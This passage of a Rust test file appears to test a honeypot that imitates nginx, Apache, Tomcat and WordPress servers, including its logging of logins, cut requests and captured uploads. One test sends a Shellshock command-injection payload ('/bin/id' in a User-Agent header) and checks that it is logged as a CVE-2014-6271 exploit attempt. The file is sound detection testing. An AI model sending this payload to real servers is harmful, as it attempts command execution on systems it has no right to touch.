        let (head, icon) = got(site.address, "/favicon.ico");
        assert!(head.contains("ETag: W/\"") && !icon.is_empty(), "{head}");
    }
}

#[test]
fn tomcat_asks_for_an_account_and_takes_basic() {
    let site = start(
        "http",
        persona(Distro::Debian12, "Apache"),
        &[("site", "tomcat"), ("accept", "always")],
    );
    let refused = text(site.address, "GET /manager/html HTTP/1.1\r\nHost: a\r\n\r\n");
    assert!(
        refused.starts_with("HTTP/1.1 401 \r\n")
            && refused.contains("Cache-Control: private")
            && refused.contains("Basic realm=\"Tomcat Manager Application\"")
    );
    let inside = |path: &str| {
        let basic = "Authorization: Basic dG9tY2F0OnMzY3JldA==";
        text(
            site.address,
            &format!("GET {path} HTTP/1.1\r\nHost: a\r\n{basic}\r\n\r\n"),
        )
    };
    let page = inside("/manager/html");
    assert!(
        page.starts_with("HTTP/1.1 200 \r\n") && page.contains("Tomcat Web Application Manager"),
        "{page}"
    );
    assert!(
        inside("/manager/text/list")
            .contains("OK - Listed applications for virtual host [localhost]\n/:running:0:ROOT")
    );
    assert!(inside("/manager/text/serverinfo").contains("Tomcat Version: [Apache Tomcat/9.0."));
    assert!(inside("/manager/text/deploy?path=%2Fx").contains("at context path [/x]"));
    site.lines.wait(&[
        "principal=\"tomcat\"",
        "secret_printable=\"s3cret\"",
        "mechanism=\"Basic\"",
    ]);
}

/// What a web server reports that serves a blog, of a visitor that says `raw` and then stays silent, or closes.
fn told_of(product: &str, raw: &[u8], closes: bool) -> String {
    let knobs = BTreeMap::from([("site".to_owned(), "wordpress".into())]);
    let machine = machine::built(&persona(Distro::Debian12, product), |host| {
        vec![catalogue::build("http", &knobs, host).unwrap()]
    });
    machine::runtime().block_on(async {
        let (mut io, session) = machine.visit(&machine.decoys[0], machine::BOUNDS);
        io.write_all(raw).await.unwrap();
        if closes {
            io.shutdown().await.unwrap();
        }
        session.await;
    });
    machine.lines.text()
}

#[test]
fn a_request_whose_body_is_cut_is_told_with_all_that_came_of_it() {
    for product in ["nginx", "Apache"] {
        // A program waits for the body of the first; nginx answers the second before it.
        for path in ["/wp-login.php", "/nope"] {
            for framing in ["Content-Length: 100", "Transfer-Encoding: chunked"] {
                for closes in [false, true] {
                    let raw = format!(
                        "POST {path} HTTP/1.1\r\nHost: a\r\nUser-Agent: () {{ :;}}; /bin/id\r\nAuthorization: Basic \
                         ZXZhOmxldG1laW4=\r\n{framing}\r\n\r\n8\r\ncut-body"
                    );
                    let told = told_of(product, raw.as_bytes(), closes);
                    let case = format!("{product} {path} {framing} {closes}:\n{told}");
                    let count = |kind: &str, what: &str| {
                        told.lines()
                            .filter(|line| line.contains(&format!(" {kind} ")) && line.contains(what))
                            .count()
                    };
                    assert_eq!(count("request", &format!("path=\"{path}\"")), 1, "{case}");
                    assert_eq!(count("request", "cut-body"), 1, "{case}");
                    assert_eq!(count("exploit_attempt", "CVE-2014-6271"), 1, "{case}");
                    assert_eq!(count("auth_attempt", "secret_printable=\"letmein\""), 1, "{case}");
                    assert_eq!(count("protocol_violation", ""), 0, "{case}");
                }
            }
        }
    }
}

#[test]
fn what_is_no_whole_request_is_told_once() {
    let nothing = "what=\"input that came to nothing\"";
    for closes in [false, true] {
        for product in ["nginx", "Apache"] {
            let told = told_of(product, b"GET /cut HTTP/1.1\r\nHost: half", closes);
            assert_eq!(told.matches("half").count(), 1, "{product}: {told}");
            assert_eq!(told.matches(nothing).count(), 1, "{product}: {told}");
        }
        // The hello of TLS, without a line end.
        let told = told_of("Apache", b"\x16\x03\x01\x00\x07a-hello", closes);
        assert_eq!(told.matches("a-hello").count(), 1, "{told}");
        // What no chunk is, and what nobody reads behind it.
        let told = told_of(
            "Apache",
            b"POST /wp-login.php HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nno-chunk\r\nmore",
            closes,
        );
        assert_eq!(told.matches("no-chunk").count(), 1, "{told}");
        assert_eq!(told.matches(nothing).count(), 1, "{told}");
    }
    let whole = told_of("nginx", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", true);
    assert!(!whole.contains("protocol_violation"), "{whole}");
    let garbage = told_of("nginx", b"garbage here", true);
    assert_eq!(garbage.matches("garbage").count(), 1, "{garbage}");
}

#[test]
fn a_long_body_in_chunks_is_kept_whole() {
    for product in ["nginx", "Apache"] {
        for path in ["/wp-login.php", "/nope"] {
            let site = start(
                "http",
                persona(Distro::Debian12, product),
                &[("site", "wordpress")],
            );
            let head = format!("POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n");
            let lines = || (0..100).map(|n| format!("line {n:03} ").repeat(10));
            let chunks: String = lines()
                .map(|line| format!("{:x}\r\n{line}\r\n", line.len()))
                .collect();
            let wanted: String = lines().collect();
            assert!(wanted.len() > 8192);
            text(site.address, &format!("{head}{chunks}0\r\n\r\n"));
            let told = site.lines.wait(&["file_captured", "via=\"post\""]);
            assert!(told.contains("truncated=\"false\""), "{told}");
            let files = site.kept();
            let file = files
                .iter()
                .find(|path| path.extension().is_none_or(|ending| ending != "json"));
            assert_eq!(
                std::fs::read_to_string(file.unwrap()).unwrap(),
                wanted,
                "{product} {path}"
            );
        }
    }
}

#[test]
fn the_seeds_of_the_fuzzer_are_read_without_a_panic() {
    let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/corpus/http_request");
    let mut seeds = 0;
    for entry in std::fs::read_dir(corpus).unwrap() {
        let raw = std::fs::read(entry.unwrap().path()).unwrap();
        seeds += 1;
        for strictness in [
            request::Strictness::Apache,
            request::Strictness::Nginx { strict: true },
            request::Strictness::Nginx { strict: false },
        ] {
            if let request::Progress::Whole(n) = request::head_end(&raw, strictness)
                && let Ok(parsed) = request::parse(&raw[..n], strictness)
            {
                assert!(parsed.path == b"*" || parsed.path.starts_with(b"/"));
            }
        }
    }
    assert!(seeds >= 10);
}
